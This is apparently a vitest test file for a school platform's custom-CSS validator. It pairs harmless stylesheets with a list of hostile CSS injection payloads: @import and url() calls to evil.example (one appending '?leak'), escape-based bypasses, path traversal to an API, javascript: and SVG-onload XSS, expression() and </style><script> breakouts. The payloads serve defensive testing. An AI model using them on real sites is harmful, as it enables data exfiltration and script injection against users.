import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cssErrors } from '../../src/school/settings/customCss.ts'

const issuer = 'https://school.example'

const harmless = [
  '',
  '/* nothing */',
  ':root { --gap: 1rem } h1, h2 > a:hover::before { content: "→"; margin: calc(var(--gap) * 2) !important }',
  '@media (min-width: 40rem) { .hero { display: grid } }',
  '@supports (display: grid) { @layer site { nav { gap: 2px } } }',
  '@font-face { font-family: Own; src: url(/files/fil_01jgwejj00e6srgkpqm2sqf05m/own.woff2) format("woff2") }',
  '.a { background: url("/files/fil_01jgwejj00e6srgkpqm2sqf05m/kiln.webp") }',
  `.a { background: URL('${issuer}/files/fil_01jgwejj00e6srgkpqm2sqf05m/kiln.webp') }`,
  '.b { scroll-behavior: smooth; overscroll-behavior: none }',
  '@keyframes spin { to { rotate: 1turn } }',
]

const hostile = [
  '@import "https://evil.example/x.css";',
  "@IMPORT url('//evil.example/x.css');",
  '@\\69mport "https://evil.example";',
  '@\\000069 mport "https://evil.example";',
  '@charset "utf-7"; a { x: y }',
  '@namespace url(https://evil.example);',
  '@-moz-document url-prefix("") { a { color: red } }',
  'a { background: url(https://evil.example/?leak) }',
  'a { background: url(//evil.example/x) }',
  'a { background: url("\\2f\\2f evil.example/x") }',
  'a { background: u\\72l(https://evil.example/x) }',
  'a { background: \\75\\72\\6c("https://evil.example/x") }',
  'a { background: url(/api/v1/school) }',
  'a { background: url(/files/../api/v1/school) }',
  'a { background: url(/files/%2e%2e/api/v1/school) }',
  'a { background: url(/files\\\\..\\\\api) }',
  'a { background: url(files/x.png) }',
  `a { background: url(${issuer}.evil.example/files/x.png) }`,
  `a { background: url(${issuer}@evil.example/files/x.png) }`,
  'a { background: url(data:image/svg+xml,<svg/onload=alert(1)>) }',
  'a { background: url(javascript:alert(1)) }',
  'a { background: url(java\\script:alert(1)) }',
  'a { background: url(/* hidden */https://evil.example) }',
  'a { background: url() }',
  'a { background: url(var(--x)) }',
  'a { background: url(https://evil.example',
  'a { background: url("https://evil.example',
  'a { background: image-set("https://evil.example/x" 1x) }',
  'a { background: -webkit-image-set("https://evil.example/x" 1x) }',
  'a { --x: "https://evil.example"; background: image-set(var(--x) 1x) }',
  'a { background: src("https://evil.example/x") }',
  'a { width: expression(alert(1)) }',
  'a { width: EXPRESSION(alert(1)) }',
  'a { width: e\\78 pression(alert(1)) }',
  'a { width: expr/**/ession(alert(1)) }',
  'a { width: ｅｘｐｒｅｓｓｉｏｎ(alert(1)) }',
  'a { -moz-binding: url(/files/x.xml) }',
  'a { behavior: url(/files/x.htc) }',
  'a { behaviour: none; BEHAVIOR: none }',
  '</style><script>alert(1)</script>',
  '</STYLE >',
  'a { content: "</style>" }',
  'a { content: "\\3c/style>" }',
  '/* </style> */',
  '<!-- a { color: red } -->',
  'a { content: "unended\n }',
]

describe("a school's own stylesheet", () => {
  test.each(harmless)('may say %j', (css) => {
    expect(cssErrors(css, issuer)).toEqual([])
  })

  test.each(hostile)('may not say %j', (css) => {
    expect(cssErrors(css, issuer)).not.toEqual([])
  })

  test('rejected rules stay rejected among any others', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...harmless),
        fc.constantFrom(...hostile.slice(0, 20)),
        fc.constantFrom(...harmless),
        (before, bad, after) => {
          expect(cssErrors(`${before}\n${bad}\n${after}`, issuer)).not.toEqual([])
        },
      ),
    )
  })

  test('an import is refused however its letters are escaped', () => {
    const spelling = fc.tuple(
      ...[...'import'].map((email) => {
        const code = (email.codePointAt(0) as number).toString(16)
        return fc.constantFrom(email, email.toUpperCase(), `\\${code} `, `\\${code.padStart(6, '0')}`)
      }),
    )
    fc.assert(
      fc.property(spelling, (emails) => {
        expect(cssErrors(`@${emails.join('')} "x";`, issuer)).not.toEqual([])
      }),
    )
  })

  test('whatever text comes is judged, and outside of strings and comments what is taken names no foreign address', () => {
    const pieces = ['@', 'url(', 'import', 'https://e', '//e', '(', ')', '{', '}', ';', ':', ' ', '\n', '3c', 'a', '/files/x']
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (chosen) => {
        const css = chosen.join('')
        if (cssErrors(css, issuer).length > 0) return
        expect(css).not.toMatch(/(?<![\w\\-])url\(\s*(https:|\/\/)|@import/i)
      }),
      { numRuns: 2000 },
    )
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 80 }), (css) => Array.isArray(cssErrors(css, issuer))))
  })
})
